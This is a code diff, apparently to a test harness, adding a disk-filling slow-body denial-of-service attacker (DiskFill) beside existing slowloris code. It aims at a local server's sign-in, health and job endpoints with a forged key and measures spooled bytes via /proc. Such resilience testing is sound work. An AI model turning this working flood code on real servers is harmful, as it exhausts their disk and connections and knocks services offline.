@@ -5,15 +5,20 @@
 ``Content-Length: 60000``), one byte per connection every ``interval`` seconds. None carries
 credentials. A connection the server closes is replaced at once when ``replace`` is set (as a
 real attacker would), and how long the server kept each one is recorded.
+
+``DiskFill`` is the attack on the disk instead of the threads: bodies sent fast, then trickled a byte at a
+time to keep their spooled bytes held; ``spooled_bytes`` measures, from outside, what a process holds so.
 """
 
 from __future__ import annotations
 
+import os
 import selectors
 import socket
 import threading
 import time
 from dataclasses import dataclass, field
+from pathlib import Path
 
 SLOWLORIS_HEAD = b"GET /v1/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slow\r\n" + b"X-Padding: " + b"a" * 4000
 BODY_LENGTH = 60000
@@ -22,6 +27,10 @@ BODY_LENGTH = 60000
 FORGED_KEY = "fhk_0123456789abcdef_" + "A" * 43
 # Unauthenticated: the static callback URL, the dashboard's sign-in form, a submission with a forged key.
 SLOW_BODY_TARGETS = ("/webhooks/bfl", "/signin", "/v1/jobs")
+# A disk fill's: the sign-in form, /healthz (a GET with a body: the server holds any request's body it waits
+# for), and a submission with the forged key.
+DISK_FILL_TARGETS = ("/signin", "/healthz", "/v1/jobs")
+MIB = 1024 * 1024
 
 
 def slow_body_head(path: str, length: int = BODY_LENGTH, headers: str = "") -> bytes:
@@ -31,9 +40,28 @@ def slow_body_head(path: str, length: int = BODY_LENGTH, headers: str = "") -> b
             f"Content-Length: {length}\r\n\r\n").encode()
 
 
-def attack_head(path: str) -> bytes:
-    """A slow body's head for one of SLOW_BODY_TARGETS (the submission's with the forged key)."""
-    return slow_body_head(path, headers=f"Authorization: Bearer {FORGED_KEY}\r\n" if path.startswith("/v1/") else "")
+def attack_head(path: str, length: int = BODY_LENGTH) -> bytes:
+    """A slow body's head for one of SLOW_BODY_TARGETS or DISK_FILL_TARGETS (the submission's with the forged key)."""
+    head = slow_body_head(path, length, headers=f"Authorization: Bearer {FORGED_KEY}\r\n" if path.startswith("/v1/") else "")
+    return head.replace(b"POST /healthz ", b"GET /healthz ")
+
+
+def spooled_bytes(pid: int, directory: Path) -> int:
+    """The bytes of the files under ``directory`` that process ``pid`` holds open (deleted ones included, as
+    request spools are): read from /proc, so from outside the process."""
+    total = 0
+    prefix = str(directory).rstrip("/") + "/"
+    try:
+        descriptors = list(Path(f"/proc/{pid}/fd").iterdir())
+    except OSError:
+        return 0  # gone
+    for fd in descriptors:
+        try:
+            if os.readlink(fd).startswith(prefix):
+                total += os.stat(fd).st_size  # the open file itself, even unlinked
+        except OSError:
+            pass  # closed meanwhile
+    return total
 
 
 @dataclass
@@ -173,3 +201,105 @@ class Attack:
             else:
                 target = SLOW_BODY_TARGETS[self.opened_count % len(SLOW_BODY_TARGETS)]
                 self._connect("slow_body", attack_head(target))
+
+
+@dataclass
+class Trickle:
+    """One disk-filling connection: when it opened, when its fast part was sent, when it closed, what it was told."""
+
+    path: str
+    opened: float = field(default_factory=time.monotonic)
+    filled: float | None = None
+    closed: float | None = None
+    answer: bytes = b""
+
+    @property
+    def status(self) -> int | None:
+        parts = self.answer.split(b" ", 2)
+        return int(parts[1]) if len(parts) > 2 and parts[1].isdigit() else None
+
+    @property
+    def held(self) -> float:
+        """How long the server kept it after its fast part (0 if it never got that far)."""
+        return 0.0 if self.filled is None else (self.closed or time.monotonic()) - self.filled
+
+
+class DiskFill:
+    """``connections`` clients, each sending ``fast`` bytes of a body announced as ``length`` at once, then one
+    byte every ``interval`` seconds (never below any pause limit, far below any rate), to hold what the server
+    spooled. A connection the server closes is opened again after ``pause`` seconds when ``replace`` is set.
+    Targets: DISK_FILL_TARGETS in turn, none with credentials. One thread per connection, until ``stop()``.
+    """
+
+    def __init__(self, port: int, *, connections: int = 20, fast: int = 200 * MIB, length: int = 256 * MIB,
+                 interval: float = 8.0, replace: bool = True, pause: float = 1.0, limit: float = 120.0,
+                 targets: tuple[str, ...] = DISK_FILL_TARGETS, host: str = "127.0.0.1"):
+        self.address = (host, port)
+        self.connections, self.fast, self.length = connections, fast, length
+        self.interval, self.replace, self.pause, self.limit = interval, replace, pause, limit
+        self.targets = targets
+        self.lives: list[Trickle] = []
+        self._stop = threading.Event()
+        self._threads: list[threading.Thread] = []
+        self._lock = threading.Lock()
+
+    def start(self) -> "DiskFill":
+        for n in range(self.connections):
+            thread = threading.Thread(target=self._run, args=(self.targets[n % len(self.targets)],),
+                                      name=f"disk-fill-{n}", daemon=True)
+            thread.start()
+            self._threads.append(thread)
+        return self
+
+    def stop(self) -> None:
+        self._stop.set()
+        for thread in self._threads:
+            thread.join(timeout=self.interval + 15)
+
+    def __enter__(self) -> "DiskFill":
+        return self.start()
+
+    def __exit__(self, *exc) -> None:
+        self.stop()
+
+    def all_lives(self) -> list[Trickle]:
+        with self._lock:
+            return list(self.lives)
+
+    def _run(self, path: str) -> None:
+        started = time.monotonic()
+        piece = b"x" * MIB
+        while not self._stop.is_set() and time.monotonic() - started < self.limit:
+            life = Trickle(path)
+            with self._lock:
+                self.lives.append(life)
+            try:
+                with socket.create_connection(self.address, timeout=30) as sock:
+                    try:
+                        sock.sendall(attack_head(path, self.length))
+                        for at in range(0, self.fast, MIB):
+                            sock.sendall(piece[:min(MIB, self.fast - at)])
+                        life.filled = time.monotonic()
+                        self._trickle(sock, life, started)
+                    except OSError:  # refused mid-body: the answer may still be there to read
+                        sock.settimeout(0.5)
+                        life.answer += sock.recv(65536)
+            except OSError:
+                pass  # reset
+            life.closed = time.monotonic()
+            if not self.replace:
+                return
+            self._stop.wait(self.pause)
+
+    def _trickle(self, sock: socket.socket, life: Trickle, started: float) -> None:
+        """A byte every ``interval`` until the server answers and closes (or the attack ends)."""
+        sock.settimeout(self.interval)
+        while not self._stop.is_set() and time.monotonic() - started < self.limit:
+            try:
+                data = sock.recv(65536)
+            except TimeoutError:
+                sock.send(b"x")
+                continue
+            if not data:
+                return
+            life.answer += data
